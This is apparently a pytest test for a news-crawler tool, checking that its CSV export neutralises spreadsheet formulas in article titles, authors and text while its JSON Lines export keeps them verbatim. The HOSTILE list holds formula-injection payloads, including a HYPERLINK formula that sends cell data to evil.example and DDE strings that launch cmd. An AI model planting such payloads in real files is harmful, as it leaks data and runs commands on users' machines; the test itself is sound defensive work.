"""CSV export neutralises spreadsheet formulas in portal text (=, +, -, @, tab, CR at a cell's start);
the JSON Lines export keeps the text exactly."""

from __future__ import annotations

import csv
import json

from crawler.db import open_db
from helpers import national_article, run_dxwatch, write_digest_config
from pipelines.storage import save_article

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_formulas_and_jsonl_keeps_the_text(tmp_path):
    cfg = write_digest_config(tmp_path / "config", 25, "digests: []\n")
    db_path = tmp_path / "data" / "dxwatch.db"
    db = open_db(db_path)
    for n, title in enumerate(HOSTILE):
        item = national_article(n)
        item.update(title=title, author=title, content_hash=f"h{n}", text=f"{title}\n\nNội dung bài {n} về chuyển đổi số.")
        save_article(db, item)
    db.conn.close()

    out = tmp_path / "out" / "articles.csv"
    exported = run_dxwatch(cfg, db_path, "export", "--format", "csv", "--out", str(out))
    assert exported.returncode == 0, exported.stderr
    with open(out, encoding="utf-8-sig", newline="") as handle:  # as a spreadsheet reads it: CR kept
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(HOSTILE)
    for row, title in zip(rows, HOSTILE):
        for field in ("title", "author", "text"):
            assert row[field].startswith("'") and row[field][1:].startswith(title), (field, row[field])
            assert not row[field].startswith(("=", "+", "-", "@", "\t", "\r"))
    lines = run_dxwatch(cfg, db_path, "export").stdout.splitlines()
    assert [json.loads(line)["title"] for line in lines] == HOSTILE
